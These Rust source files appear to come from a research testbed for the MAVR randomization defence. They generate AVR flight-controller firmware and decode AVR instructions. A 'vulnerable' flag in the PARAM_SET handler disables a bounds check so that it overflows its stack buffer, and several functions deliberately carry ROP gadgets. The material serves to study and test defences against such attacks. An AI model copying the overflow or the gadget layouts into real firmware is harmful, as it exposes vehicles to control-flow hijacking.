/// `std Y+1,r5 ; std Y+2,r6 ; std Y+3,r7 ; pop r29 ; pop r28 ;
/// pop r17 … pop r4 ; ret`.
pub fn imu_commit_sample() -> Function {
    let mut b = FnBuilder::new("imu_commit_sample");
    // Save r4..r17 then r28, r29 (so pops run r29, r28, r17..r4).
    for r in 4..=17u8 {
        b = b.insn(Push { r: Reg::new(r) });
    }
    b = b.insn(Push { r: R28 }).insn(Push { r: R29 });
    b = b
        .insn(Movw { d: R28, r: R24 })
        .insn(lds(R5, l::STAGE))
        .insn(lds(R6, l::STAGE + 1))
        .insn(lds(R7, l::STAGE + 2))
        // ---- write_mem_gadget starts here ----
        .insn(Std {
            idx: YZ::Y,
            q: 1,
            r: R5,
        })
        .insn(Std {
            idx: YZ::Y,
            q: 2,
            r: R6,
        })
        .insn(Std {
            idx: YZ::Y,
            q: 3,
            r: R7,
        })
        .insn(Pop { d: R29 })
        .insn(Pop { d: R28 });
    for r in (4..=17u8).rev() {
        b = b.insn(Pop { d: Reg::new(r) });
    }
    b.insn(Ret).build()
}

/// Emit an avr-gcc frame-function prologue: save r16/r29/r28, copy SP to Y,
/// allocate `frame` bytes. Frames over 63 bytes use the `subi`/`sbci`
/// idiom, exactly as avr-gcc does.
pub fn frame_prologue(mut b: FnBuilder, frame: u16) -> FnBuilder {
    b = b
        .insn(Push { r: R16 })
        .insn(Push { r: R29 })
        .insn(Push { r: R28 })
        .insn(In { d: R28, a: io::SPL })
        .insn(In { d: R29, a: io::SPH });
    if frame <= 63 {
        b = b.insn(Sbiw {
            d: R28,
            k: frame as u8,
        });
    } else {
        b = b
            .insn(Subi {
                d: R28,
                k: (frame & 0xff) as u8,
            })
            .insn(Sbci {
                d: R29,
                k: (frame >> 8) as u8,
            });
    }
    b = b
        .insn(In { d: R0, a: io::SREG })
        .insn(Bclr {
            s: avr_core::sreg::I,
        }) // cli, as avr-gcc emits
        .insn(Out { a: io::SPH, r: R29 })
        .insn(Out { a: io::SREG, r: R0 })
        .insn(Out { a: io::SPL, r: R28 });
    b
}

/// Emit the matching epilogue. From the `out 0x3e, r29` on, this is the
/// paper's `stk_move` gadget (Fig. 4).
pub fn frame_epilogue(mut b: FnBuilder, frame: u16) -> FnBuilder {
    if frame <= 63 {
        b = b.insn(Adiw {
            d: R28,
            k: frame as u8,
        });
    } else {
        let neg = frame.wrapping_neg();
        b = b
            .insn(Subi {
                d: R28,
                k: (neg & 0xff) as u8,
            })
            .insn(Sbci {
                d: R29,
                k: (neg >> 8) as u8,
            });
    }
    b = b
        .insn(In { d: R0, a: io::SREG })
        .insn(Bclr {
            s: avr_core::sreg::I,
        }) // cli
        // ---- stk_move gadget starts here ----
        .insn(Out { a: io::SPH, r: R29 })
        .insn(Out { a: io::SREG, r: R0 })
        .insn(Out { a: io::SPL, r: R28 })
        .insn(Pop { d: R28 })
        .insn(Pop { d: R29 })
        .insn(Pop { d: R16 })
        .insn(Ret);
    b
}

/// `nav_update`: a frame function doing some navigation-ish arithmetic in
/// its 16-byte stack frame. Exists to be a realistic `stk_move` carrier on
/// the hot path.
pub fn nav_update() -> Function {
    let mut b = frame_prologue(FnBuilder::new("nav_update"), 16);
    b = b
        .insn(lds(R24, l::GYRO))
        .insn(lds(R25, l::GYRO + 1))
        .insn(Std {
            idx: YZ::Y,
            q: 1,
            r: R24,
        })
        .insn(Std {
            idx: YZ::Y,
            q: 2,
            r: R25,
        })
        .insn(Ldd {
            d: R16,
            idx: YZ::Y,
            q: 1,
        })
        .insn(Add { d: R16, r: R25 })
        .insn(Std {
            idx: YZ::Y,
            q: 3,
            r: R16,
        });
    frame_epilogue(b, 16).insn(Ret).build()
}

/// `adc_read(channel: r24) -> r24`: select the channel with the result
/// left-adjusted, start a conversion, busy-wait on `ADSC`, and return the
/// top 8 of the 10 result bits from `ADCH`. The 8-bit controller never
/// needs `ADCL`. Clobbers r24 only. Flight builds only.
pub fn adc_read() -> Function {
    FnBuilder::new("adc_read")
        .insn(Ori { d: R24, k: ADLAR })
        .insn(sts(ADMUX, R24))
        // ADEN | ADSC | prescale /4.
        .insn(ldi(R24, 0xc2))
        .insn(sts(ADCSRA, R24))
        .label("adc_wait")
        .insn(lds(R24, ADCSRA))
        .insn(Sbrc {
            r: R24,
            b: ADSC_BIT,
        })
        .rjmp("adc_wait")
        .insn(lds(R24, ADCH))
        .insn(Ret)
        .build()
}

/// `flight_control`: the closed-loop attitude + altitude controller of the
/// flight builds, run once per main-loop pass.
///
/// Altitude loop: baro counts arrive on ADC channel 2 (2 counts/m after
/// the 8-bit left-adjust), the setpoint is 100 counts (50 m) plus the
/// [`crate::layout::ALT_TRIM`] signed trim, and thrust is
/// `140 + 2 * error` saturated to 0..=255, written to `OCR0A`.
///
/// Attitude loop: the pitch-rate gyro arrives on channel 0 centered at
/// 128; the damping torque `128 - (rate - 128)` (= `-rate` mod 256) goes
/// to `OCR0B`. Flight builds only.
pub fn flight_control() -> Function {
    FnBuilder::new("flight_control")
        // ---- altitude hold ----
        .insn(ldi(R24, 2))
        .call("adc_read")
        // err (16-bit in r27:r26) = 100 + sign-extended trim - alt. The
        // full computation is widened so a large excursion saturates the
        // thrust instead of wrapping the error sign.
        .insn(ldi(R26, 100))
        .insn(ldi(R27, 0))
        .insn(lds(R22, l::ALT_TRIM))
        .insn(ldi(R23, 0))
        .insn(Sbrc { r: R22, b: 7 })
        .insn(ldi(R23, 0xff))
        .insn(Add { d: R26, r: R22 })
        .insn(Adc { d: R27, r: R23 })
        .insn(ldi(R25, 0))
        .insn(Sub { d: R26, r: R24 })
        .insn(Sbc { d: R27, r: R25 })
        // t = 2 * err + 140.
        .insn(Add { d: R26, r: R26 })
        .insn(Adc { d: R27, r: R27 })
        .insn(Subi { d: R26, k: 0x74 }) // r27:r26 += 140
        .insn(Sbci { d: R27, k: 0xff })
        // Saturate to one byte: r27 == 0 means in range; otherwise the
        // sign bit picks the rail.
        .insn(And { d: R27, r: R27 })
        .breq("thrust_ok")
        .insn(ldi(R26, 0x00))
        .insn(Sbrs { r: R27, b: 7 })
        .insn(ldi(R26, 0xff))
        .label("thrust_ok")
        .insn(sts(OCR0A, R26))
        // ---- pitch-rate damping ----
        .insn(ldi(R24, 0))
        .call("adc_read")
        .insn(Neg { d: R24 })
        .insn(sts(OCR0B, R24))
        .insn(Ret)
        .build()
}

/// The MAVLink receive pump: drain every available UART byte through the
/// parser state machine; on a checksum-valid frame, dispatch by message id.
pub fn mavlink_rx_poll() -> Function {
    let mut b = FnBuilder::new("mavlink_rx_poll")
        .label("poll_again")
        .insn(lds(R24, UCSR0A))
        .insn(Sbrs { r: R24, b: RXC_BIT })
        .rjmp("poll_done")
        .insn(lds(R24, UDR0))
        .insn(lds(R25, l::RX_STATE));
    // Dispatch ladder: cpi/brne/rjmp triplets keep every conditional branch
    // within reach.
    for (state, target) in [
        (0u8, "st_idle"),
        (1, "st_len"),
        (2, "st_seq"),
        (3, "st_sys"),
        (4, "st_comp"),
        (5, "st_msgid"),
        (6, "st_payload"),
        (7, "st_crc1"),
        (8, "st_crc2"),
    ] {
        let skip = format!("lad_{state}");
        b = b
            .insn(Cpi { d: R25, k: state })
            .brne(skip.clone())
            .rjmp(target)
            .label(skip);
    }
    // Unknown state: reset.
    b = b
        .insn(sts(l::RX_STATE, R1))
        .rjmp("poll_again")
        // -- idle: wait for the magic byte --
        .label("st_idle")
        .insn(Cpi { d: R24, k: 0xfe })
        .brne("hop_a")
        .insn(ldi(R22, 0xff))
        .insn(sts(l::RX_CRC_L, R22))
        .insn(sts(l::RX_CRC_H, R22))
        .insn(ldi(R25, 1))
        .insn(sts(l::RX_STATE, R25))
        .label("hop_a")
        .rjmp("poll_again")
        // -- length --
        .label("st_len")
        .insn(sts(l::RX_LEN, R24))
        .insn(Mov { d: R22, r: R24 })
        .call("rx_crc_feed")
        .insn(ldi(R25, 2))
        .insn(sts(l::RX_STATE, R25))
        .rjmp("poll_again");
    // -- seq / sysid / compid: CRC only --
    for (label, next) in [("st_seq", 3u8), ("st_sys", 4), ("st_comp", 5)] {
        b = b
            .label(label)
            .insn(Mov { d: R22, r: R24 })
            .call("rx_crc_feed")
            .insn(ldi(R25, next))
            .insn(sts(l::RX_STATE, R25))
            .rjmp("poll_again");
    }
    b = b
        // -- message id --
        .label("st_msgid")
        .insn(sts(l::RX_MSGID, R24))
        .insn(Mov { d: R22, r: R24 })
        .call("rx_crc_feed")
        .insn(sts(l::RX_CNT, R1))
        .insn(ldi(R22, (l::RX_BUF & 0xff) as u8))
        .insn(sts(l::RX_PTR_L, R22))
        .insn(ldi(R22, (l::RX_BUF >> 8) as u8))
        .insn(sts(l::RX_PTR_H, R22))
        .insn(lds(R22, l::RX_LEN))
        .insn(And { d: R22, r: R22 })
        .brne("msgid_pl")
        .insn(ldi(R25, 7))
        .insn(sts(l::RX_STATE, R25))
        .rjmp("poll_again")
        .label("msgid_pl")
        .insn(ldi(R25, 6))
        .insn(sts(l::RX_STATE, R25))
        .rjmp("poll_again")
        // -- payload --
        .label("st_payload")
        .insn(lds(R26, l::RX_PTR_L))
        .insn(lds(R27, l::RX_PTR_H))
        .insn(St {
            ptr: avr_core::PtrReg::XPostInc,
            r: R24,
        })
        .insn(sts(l::RX_PTR_L, R26))
        .insn(sts(l::RX_PTR_H, R27))
        .insn(Mov { d: R22, r: R24 })
        .call("rx_crc_feed")
        .insn(lds(R22, l::RX_CNT))
        .insn(Inc { d: R22 })
        .insn(sts(l::RX_CNT, R22))
        .insn(lds(R23, l::RX_LEN))
        .insn(Cp { d: R22, r: R23 })
        .brne("hop_b")
        .insn(ldi(R25, 7))
        .insn(sts(l::RX_STATE, R25))
        .label("hop_b")
        .rjmp("poll_again")
        // -- first checksum byte --
        .label("st_crc1")
        .insn(sts(l::RX_RCV_CRC_L, R24))
        .insn(ldi(R25, 8))
        .insn(sts(l::RX_STATE, R25))
        .rjmp("poll_again")
        // -- second checksum byte: verify and dispatch --
        .label("st_crc2")
        .insn(Mov { d: R20, r: R24 }) // received CRC high
        // r22 = crc_extra(msgid)
        .insn(lds(R25, l::RX_MSGID));
    for (id, extra) in [(0u8, 50u8), (23, 168), (27, 144), (30, 39), (76, 152)] {
        let skip = format!("ce_{id}");
        b = b
            .insn(Cpi { d: R25, k: id })
            .brne(skip.clone())
            .insn(ldi(R22, extra))
            .rjmp("ce_done")
            .label(skip);
    }
    b = b
        .insn(ldi(R22, 0))
        .label("ce_done")
        .call("rx_crc_feed")
        .insn(sts(l::RX_STATE, R1))
        .insn(lds(R24, l::RX_CRC_L))
        .insn(lds(R25, l::RX_RCV_CRC_L))
        .insn(Cp { d: R24, r: R25 })
        .brne("crc_bad")
        .insn(lds(R24, l::RX_CRC_H))
        .insn(Cp { d: R24, r: R20 })
        .brne("crc_bad")
        // dispatch
        .insn(lds(R24, l::RX_MSGID))
        .insn(Cpi { d: R24, k: 23 })
        .brne("not_ps")
        .call("handle_param_set")
        .rjmp("poll_again")
        .label("not_ps")
        .insn(Cpi { d: R24, k: 76 })
        .brne("no_disp")
        .call("handle_command")
        .label("no_disp")
        .rjmp("poll_again")
        .label("crc_bad")
        .insn(lds(R24, l::BAD_CRC_COUNT))
        .insn(Inc { d: R24 })
        .insn(sts(l::BAD_CRC_COUNT, R24))
        .rjmp("poll_again")
        .label("poll_done")
        .insn(Ret);
    b.build()
}

/// The PARAM_SET handler. Copies the received payload from the global
/// receive buffer into a 30-byte stack buffer, then commits the first four
/// bytes as the new parameter value.
///
/// With `vulnerable = true` the length check is disabled — the copy runs
/// for the full received length (up to 255 bytes), smashing the saved
/// registers and return address exactly as in §IV-B. With
/// `vulnerable = false` the copy is clamped to the buffer size.
pub fn handle_param_set(vulnerable: bool) -> Function {
    let mut b = frame_prologue(FnBuilder::new("handle_param_set"), l::HANDLER_FRAME);
    b = b.insn(lds(R16, l::RX_LEN));
    if !vulnerable {
        // if (len > HANDLER_BUF) len = HANDLER_BUF;
        b = b
            .insn(Cpi {
                d: R16,
                k: l::HANDLER_BUF + 1,
            })
            .brcs("len_ok")
            .insn(ldi(R16, l::HANDLER_BUF))
            .label("len_ok");
        // ldi targets r16..r31: R16 is fine.
    }
    b = b
        // Z = Y + 1 (destination), X = RX_BUF (source).
        .insn(Movw { d: R30, r: R28 })
        .insn(Adiw { d: R30, k: 1 })
        .insn(ldi(R26, (l::RX_BUF & 0xff) as u8))
        .insn(ldi(R27, (l::RX_BUF >> 8) as u8))
        .label("copy")
        .insn(And { d: R16, r: R16 })
        .breq("copied")
        .insn(Ld {
            d: R24,
            ptr: avr_core::PtrReg::XPostInc,
        })
        .insn(St {
            ptr: avr_core::PtrReg::ZPostInc,
            r: R24,
        })
        .insn(Dec { d: R16 })
        .rjmp("copy")
        .label("copied");
    // Commit param_value = buffer[0..4].
    for i in 0..4u8 {
        b = b
            .insn(Ldd {
                d: R24,
                idx: YZ::Y,
                q: 1 + i,
            })
            .insn(sts(l::PARAM_VALUE + u16::from(i), R24));
    }
    b = b
        .insn(lds(R24, l::PARAM_SET_COUNT))
        .insn(Inc { d: R24 })
        .insn(sts(l::PARAM_SET_COUNT, R24))
        .call("param_save");
    frame_epilogue(b, l::HANDLER_FRAME).build()
}

/// `task_beacon`: the observable task in the RTOS-style dispatch table —
/// bumps a counter every schedule round. The paper's §X positions MAVR for
/// RTOS-based systems; the task table is exactly the "global arrays of
/// functions used … for call routing" its preprocessor must track (§VI-B2).
pub fn task_beacon() -> Function {
    FnBuilder::new("task_beacon")
        .insn(lds(R24, l::TASK_TICK))
        .insn(Inc { d: R24 })
        .insn(sts(l::TASK_TICK, R24))
        .insn(Ret)
        .build()
}

/// A second, always-safe handler: counts COMMAND packets.
pub fn handle_command() -> Function {
    FnBuilder::new("handle_command")
        .insn(lds(R24, l::COMMAND_COUNT))
        .insn(Inc { d: R24 })
        .insn(sts(l::COMMAND_COUNT, R24))
        .insn(Ret)
        .build()
}

/// `param_save`: persist the 4-byte parameter value to EEPROM[0..4] —
/// tuned configuration survives reboots *and MAVR reflashes*, since
/// randomization rewrites program flash only (Fig. 1's persistent store).
pub fn param_save() -> Function {
    FnBuilder::new("param_save")
        .insn(ldi(R26, (l::PARAM_VALUE & 0xff) as u8))
        .insn(ldi(R27, (l::PARAM_VALUE >> 8) as u8))
        .insn(ldi(R20, 0))
        .insn(ldi(R21, 4))
        .label("save_loop")
        .insn(sts(EEARL, R20))
        .insn(sts(EEARH, R1))
        .insn(Ld {
            d: R24,
            ptr: avr_core::PtrReg::XPostInc,
        })
        .insn(sts(EEDR, R24))
        .insn(ldi(R24, EEMPE))
        .insn(sts(EECR, R24))
        .insn(ldi(R24, EEPE))
        .insn(sts(EECR, R24))
        .insn(Inc { d: R20 })
        .insn(Dec { d: R21 })
        .brne("save_loop")
        .insn(Ret)
        .build()
}

/// `param_load`: restore the persisted parameter value at boot.
pub fn param_load() -> Function {
    FnBuilder::new("param_load")
        .insn(ldi(R26, (l::PARAM_VALUE & 0xff) as u8))
        .insn(ldi(R27, (l::PARAM_VALUE >> 8) as u8))
        .insn(ldi(R20, 0))
        .insn(ldi(R21, 4))
        .label("load_loop")
        .insn(sts(EEARL, R20))
        .insn(sts(EEARH, R1))
        .insn(ldi(R24, EERE))
        .insn(sts(EECR, R24))
        .insn(lds(R24, EEDR))
        .insn(St {
            ptr: avr_core::PtrReg::XPostInc,
            r: R24,
        })
        .insn(Inc { d: R20 })
        .insn(Dec { d: R21 })
        .brne("load_loop")
        .insn(Ret)
        .build()
}

/// A serial bootloader stub, pinned at a fixed location (its position is
/// dictated by the boot fuse configuration on real parts). Not reachable
/// from the application, but its `ret`-terminated code is scannable — the
/// fixed-address ROP surface the paper warns about in §VI-B4.
pub fn serial_bootloader() -> Function {
    FnBuilder::new("__bootloader")
        .fixed()
        // Poll for the programmer's sync byte; bail to the application
        // when it never arrives (heavily simplified STK500v2 shape).
        .insn(lds(R24, UCSR0A))
        .insn(Sbrs { r: R24, b: RXC_BIT })
        .rjmp("bl_done")
        .insn(lds(R24, UDR0))
        .insn(Cpi { d: R24, k: 0x1b }) // STK500v2 MESSAGE_START
        .brne("bl_done")
        // (page programming elided — the board crate models it.)
        .label("bl_done")
        .insn(ldi(R24, 0x53)) // 'S' sign-on byte in r24
        .insn(Ret)
        .build()
}

/// All core functions in link order (excluding `busy_work`, which the
/// filler generator provides). Flight builds append the ADC driver and the
/// closed-loop controller; non-flight builds are byte-identical to the
/// pre-flight generator.
pub fn core_functions(vehicle_type: u8, vulnerable: bool, flight: bool) -> Vec<Function> {
    let mut fns = vec![
        init([0x64, 0x00, 0x64, 0x1e, 0x28, 0x32], flight),
        main_loop(flight),
        heartbeat_toggle(),
        crc_update(),
        rx_crc_feed(),
        tx_frame(),
        send_heartbeat(vehicle_type),
        send_raw_imu(),
        send_sys_status(),
        read_sensors(),
        imu_commit_sample(),
        nav_update(),
        mavlink_rx_poll(),
        handle_param_set(vulnerable),
        handle_command(),
        timer0_ovf_isr(),
        param_save(),
        param_load(),
        task_beacon(),
    ];
    if flight {
        fns.push(adc_read());
        fns.push(flight_control());
    }
    fns
}
