//! Device parameters for the AVR parts used by the MAVR platform.

/// Static description of one AVR microcontroller model.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Device {
    /// Human-readable part name.
    pub name: &'static str,
    /// Program flash size in bytes.
    pub flash_bytes: u32,
    /// First data-space address of physical SRAM (registers and I/O are
    /// mapped below it).
    pub sram_start: u16,
    /// SRAM size in bytes.
    pub sram_bytes: u16,
    /// EEPROM size in bytes.
    pub eeprom_bytes: u16,
    /// Bytes pushed per return address (3 on parts with >128 KiB flash).
    pub pc_bytes: u8,
    /// Flash page size in bytes (granularity of self-programming).
    pub flash_page_bytes: u16,
    /// Endurance of the program flash in write/erase cycles. The paper
    /// (§VI-A) cites the 10,000-cycle limit as the reason randomization must
    /// be periodic rather than per-boot.
    pub flash_endurance_cycles: u32,
}

impl Device {
    /// Program flash size in 16-bit words.
    pub const fn flash_words(&self) -> u32 {
        self.flash_bytes / 2
    }

    /// Highest valid data-space address (`RAMEND`).
    pub const fn ramend(&self) -> u16 {
        self.sram_start + self.sram_bytes - 1
    }

    /// Whether `addr` (a byte address) lies inside program flash.
    pub const fn in_flash(&self, addr: u32) -> bool {
        addr < self.flash_bytes
    }
}

/// The application processor on the APM 2.5: Atmel ATmega2560.
///
/// 256 KiB flash (128 Kwords, so 3-byte return addresses), 8 KiB SRAM
/// starting at data address `0x0200`, 4 KiB EEPROM — the memory map of the
/// paper's Fig. 1.
pub const ATMEGA2560: Device = Device {
    name: "ATmega2560",
    flash_bytes: 256 * 1024,
    sram_start: 0x0200,
    sram_bytes: 8 * 1024,
    eeprom_bytes: 4 * 1024,
    pc_bytes: 3,
    flash_page_bytes: 256,
    flash_endurance_cycles: 10_000,
};

/// The MAVR master processor: Atmel ATmega1284P (§VI-A).
///
/// 128 KiB flash (2-byte return addresses), 16 KiB SRAM, 4 KiB EEPROM.
pub const ATMEGA1284P: Device = Device {
    name: "ATmega1284P",
    flash_bytes: 128 * 1024,
    sram_start: 0x0100,
    sram_bytes: 16 * 1024,
    eeprom_bytes: 4 * 1024,
    pc_bytes: 2,
    flash_page_bytes: 256,
    flash_endurance_cycles: 10_000,
};

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn atmega2560_memory_map_matches_fig1() {
        assert_eq!(ATMEGA2560.flash_bytes, 262_144);
        assert_eq!(ATMEGA2560.flash_words(), 131_072);
        assert_eq!(ATMEGA2560.sram_start, 0x0200);
        assert_eq!(ATMEGA2560.ramend(), 0x21ff);
        assert_eq!(ATMEGA2560.pc_bytes, 3);
        assert!(ATMEGA2560.in_flash(0x3ffff));
        assert!(!ATMEGA2560.in_flash(0x40000));
    }

    #[test]
    fn master_is_smaller_part() {
        const { assert!(ATMEGA1284P.flash_bytes < ATMEGA2560.flash_bytes) };
        assert_eq!(ATMEGA1284P.pc_bytes, 2);
    }
}
