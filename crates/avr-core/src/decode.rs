//! Binary decoding of program-memory words back into [`Insn`].
//!
//! [`decode`] is the exact inverse of [`crate::encode::encode`] for every
//! valid instruction and maps every reserved encoding to [`Insn::Invalid`];
//! the simulator treats executing an `Invalid` word as the crash the paper's
//! master processor watches for, and the gadget scanner relies on decoding at
//! arbitrary (possibly misaligned-by-intent) word offsets.

use crate::cycles::base_cycles;
use crate::{Insn, PtrReg, Reg, YZ};

/// One entry of a predecoded program image: the instruction that starts at
/// a given word address, its width in words, and its base cycle cost.
///
/// Predecoding pays the [`decode`] cost once per flash word instead of once
/// per executed instruction. Entries exist for *every* word address —
/// including addresses in the middle of two-word instructions — because the
/// AVR program counter (and the paper's ROP chains) can land anywhere.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Predecoded {
    /// The decoded instruction.
    pub insn: Insn,
    /// Width in words (1 or 2).
    pub width: u8,
    /// Base (not-taken / fall-through) cycles; dynamic extras are added by
    /// the simulator.
    pub cycles: u8,
}

/// Decode the single instruction starting at word address `word_addr` of a
/// little-endian byte image, with the same edge semantics as the hardware
/// fetch: a two-word opcode whose second word lies past the end of the image
/// decodes as [`Insn::Invalid`] with width 1.
pub fn predecode_at(bytes: &[u8], word_addr: usize) -> Predecoded {
    let (insn, width) = decode_at(bytes, word_addr * 2).unwrap_or((Insn::Invalid(0xffff), 1));
    let cycles = base_cycles(&insn);
    debug_assert!(cycles <= crate::cycles::MAX_BASE_CYCLES);
    Predecoded {
        insn,
        width: width as u8,
        cycles: cycles as u8,
    }
}

/// Predecode a whole image into a dense table indexed by word address.
pub fn predecode_image(bytes: &[u8]) -> Vec<Predecoded> {
    // Erased flash reads 0xffff, which decodes to a one-word Invalid no
    // matter what follows it; deriving the entry from the decoder once and
    // reusing it skips the full decode for the (usually vast) erased tail.
    let erased = predecode_at(&[0xff; 4], 0);
    (0..bytes.len() / 2)
        .map(|w| {
            if bytes[w * 2] == 0xff && bytes[w * 2 + 1] == 0xff {
                erased
            } else {
                predecode_at(bytes, w)
            }
        })
        .collect()
}

/// Re-decode the entries affected by a write of `len` bytes at byte address
/// `byte_addr`. A changed byte at word `w` invalidates the entry at `w`
/// *and* at `w - 1` (whose second word it may be), so the patched range is
/// widened by one word on the left.
pub fn predecode_patch(table: &mut [Predecoded], bytes: &[u8], byte_addr: usize, len: usize) {
    if len == 0 {
        return;
    }
    let lo = (byte_addr / 2).saturating_sub(1);
    let hi = ((byte_addr + len - 1) / 2 + 1).min(table.len());
    for (w, entry) in table.iter_mut().enumerate().take(hi).skip(lo) {
        *entry = predecode_at(bytes, w);
    }
}

fn d5(w: u16) -> Reg {
    Reg::new(((w >> 4) & 0x1f) as u8)
}

fn r5(w: u16) -> Reg {
    Reg::new((((w >> 5) & 0x10) | (w & 0x0f)) as u8)
}

fn imm8(w: u16) -> u8 {
    (((w >> 4) & 0xf0) | (w & 0x0f)) as u8
}

fn upper_d(w: u16) -> Reg {
    Reg::new((((w >> 4) & 0x0f) + 16) as u8)
}

fn sign_extend(v: u16, bits: u32) -> i16 {
    let shift = 16 - bits;
    ((v << shift) as i16) >> shift
}

/// Decode the instruction at the start of `words`.
///
/// Returns the instruction and its width in words (1 or 2). A two-word
/// instruction whose second word is missing from the slice decodes as
/// [`Insn::Invalid`] with width 1 — at the edge of flash the hardware would
/// fetch garbage there too.
///
/// # Panics
///
/// Panics if `words` is empty.
pub fn decode(words: &[u16]) -> (Insn, u32) {
    let w = words[0];
    let second = words.get(1).copied();
    let invalid = (Insn::Invalid(w), 1);

    match w >> 12 {
        0x0 => match (w >> 8) & 0x0f {
            0x0 => {
                if w == 0 {
                    (Insn::Nop, 1)
                } else {
                    invalid
                }
            }
            0x1 => (
                Insn::Movw {
                    d: Reg::new((((w >> 4) & 0x0f) * 2) as u8),
                    r: Reg::new(((w & 0x0f) * 2) as u8),
                },
                1,
            ),
            0x2 => (
                Insn::Muls {
                    d: upper_d(w),
                    r: Reg::new(((w & 0x0f) + 16) as u8),
                },
                1,
            ),
            0x3 => {
                let d = Reg::new((((w >> 4) & 0x07) + 16) as u8);
                let r = Reg::new(((w & 0x07) + 16) as u8);
                match ((w >> 7) & 1, (w >> 3) & 1) {
                    (0, 0) => (Insn::Mulsu { d, r }, 1),
                    (0, 1) => (Insn::Fmul { d, r }, 1),
                    (1, 0) => (Insn::Fmuls { d, r }, 1),
                    _ => (Insn::Fmulsu { d, r }, 1),
                }
            }
            0x4..=0x7 => (Insn::Cpc { d: d5(w), r: r5(w) }, 1),
            0x8..=0xb => (Insn::Sbc { d: d5(w), r: r5(w) }, 1),
            _ => (Insn::Add { d: d5(w), r: r5(w) }, 1),
        },
        0x1 => match (w >> 10) & 0x3 {
            0 => (Insn::Cpse { d: d5(w), r: r5(w) }, 1),
            1 => (Insn::Cp { d: d5(w), r: r5(w) }, 1),
            2 => (Insn::Sub { d: d5(w), r: r5(w) }, 1),
            _ => (Insn::Adc { d: d5(w), r: r5(w) }, 1),
        },
        0x2 => match (w >> 10) & 0x3 {
            0 => (Insn::And { d: d5(w), r: r5(w) }, 1),
            1 => (Insn::Eor { d: d5(w), r: r5(w) }, 1),
            2 => (Insn::Or { d: d5(w), r: r5(w) }, 1),
            _ => (Insn::Mov { d: d5(w), r: r5(w) }, 1),
        },
        0x3 => (
            Insn::Cpi {
                d: upper_d(w),
                k: imm8(w),
            },
            1,
        ),
        0x4 => (
            Insn::Sbci {
                d: upper_d(w),
                k: imm8(w),
            },
            1,
        ),
        0x5 => (
            Insn::Subi {
                d: upper_d(w),
                k: imm8(w),
            },
            1,
        ),
        0x6 => (
            Insn::Ori {
                d: upper_d(w),
                k: imm8(w),
            },
            1,
        ),
        0x7 => (
            Insn::Andi {
                d: upper_d(w),
                k: imm8(w),
            },
            1,
        ),
        0x8 | 0xa => decode_displaced(w),
        0x9 => decode_misc(w, second, invalid),
        0xb => {
            let a = (((w >> 5) & 0x30) | (w & 0x0f)) as u8;
            if w & 0x0800 == 0 {
                (Insn::In { d: d5(w), a }, 1)
            } else {
                (Insn::Out { a, r: d5(w) }, 1)
            }
        }
        0xc => (
            Insn::Rjmp {
                k: sign_extend(w & 0x0fff, 12),
            },
            1,
        ),
        0xd => (
            Insn::Rcall {
                k: sign_extend(w & 0x0fff, 12),
            },
            1,
        ),
        0xe => (
            Insn::Ldi {
                d: upper_d(w),
                k: imm8(w),
            },
            1,
        ),
        _ => decode_f_group(w, invalid),
    }
}

fn decode_displaced(w: u16) -> (Insn, u32) {
    let q = (((w >> 8) & 0x20) | ((w >> 7) & 0x18) | (w & 0x07)) as u8;
    let idx = if w & 0x0008 != 0 { YZ::Y } else { YZ::Z };
    let reg = d5(w);
    if w & 0x0200 != 0 {
        (Insn::Std { idx, q, r: reg }, 1)
    } else {
        (Insn::Ldd { d: reg, idx, q }, 1)
    }
}

fn decode_misc(w: u16, second: Option<u16>, invalid: (Insn, u32)) -> (Insn, u32) {
    match (w >> 8) & 0x0f {
        0x0 | 0x1 => {
            // ld Rd, ... / lds
            let d = d5(w);
            match w & 0x0f {
                0x0 => match second {
                    Some(k) => (Insn::Lds { d, k }, 2),
                    None => invalid,
                },
                0x1 => (
                    Insn::Ld {
                        d,
                        ptr: PtrReg::ZPostInc,
                    },
                    1,
                ),
                0x2 => (
                    Insn::Ld {
                        d,
                        ptr: PtrReg::ZPreDec,
                    },
                    1,
                ),
                0x4 => (Insn::Lpm { d, post_inc: false }, 1),
                0x5 => (Insn::Lpm { d, post_inc: true }, 1),
                0x6 => (Insn::Elpm { d, post_inc: false }, 1),
                0x7 => (Insn::Elpm { d, post_inc: true }, 1),
                0x9 => (
                    Insn::Ld {
                        d,
                        ptr: PtrReg::YPostInc,
                    },
                    1,
                ),
                0xa => (
                    Insn::Ld {
                        d,
                        ptr: PtrReg::YPreDec,
                    },
                    1,
                ),
                0xc => (Insn::Ld { d, ptr: PtrReg::X }, 1),
                0xd => (
                    Insn::Ld {
                        d,
                        ptr: PtrReg::XPostInc,
                    },
                    1,
                ),
                0xe => (
                    Insn::Ld {
                        d,
                        ptr: PtrReg::XPreDec,
                    },
                    1,
                ),
                0xf => (Insn::Pop { d }, 1),
                _ => invalid,
            }
        }
        0x2 | 0x3 => {
            let r = d5(w);
            match w & 0x0f {
                0x0 => match second {
                    Some(k) => (Insn::Sts { k, r }, 2),
                    None => invalid,
                },
                0x1 => (
                    Insn::St {
                        ptr: PtrReg::ZPostInc,
                        r,
                    },
                    1,
                ),
                0x2 => (
                    Insn::St {
                        ptr: PtrReg::ZPreDec,
                        r,
                    },
                    1,
                ),
                0x9 => (
                    Insn::St {
                        ptr: PtrReg::YPostInc,
                        r,
                    },
                    1,
                ),
                0xa => (
                    Insn::St {
                        ptr: PtrReg::YPreDec,
                        r,
                    },
                    1,
                ),
                0xc => (Insn::St { ptr: PtrReg::X, r }, 1),
                0xd => (
                    Insn::St {
                        ptr: PtrReg::XPostInc,
                        r,
                    },
                    1,
                ),
                0xe => (
                    Insn::St {
                        ptr: PtrReg::XPreDec,
                        r,
                    },
                    1,
                ),
                0xf => (Insn::Push { r }, 1),
                _ => invalid,
            }
        }
        0x4 | 0x5 => decode_94_95(w, second, invalid),
        0x6 => (
            Insn::Adiw {
                d: adiw_reg(w),
                k: adiw_k(w),
            },
            1,
        ),
        0x7 => (
            Insn::Sbiw {
                d: adiw_reg(w),
                k: adiw_k(w),
            },
            1,
        ),
        0x8 => (
            Insn::Cbi {
                a: bit_a(w),
                b: bit_b(w),
            },
            1,
        ),
        0x9 => (
            Insn::Sbic {
                a: bit_a(w),
                b: bit_b(w),
            },
            1,
        ),
        0xa => (
            Insn::Sbi {
                a: bit_a(w),
                b: bit_b(w),
            },
            1,
        ),
        0xb => (
            Insn::Sbis {
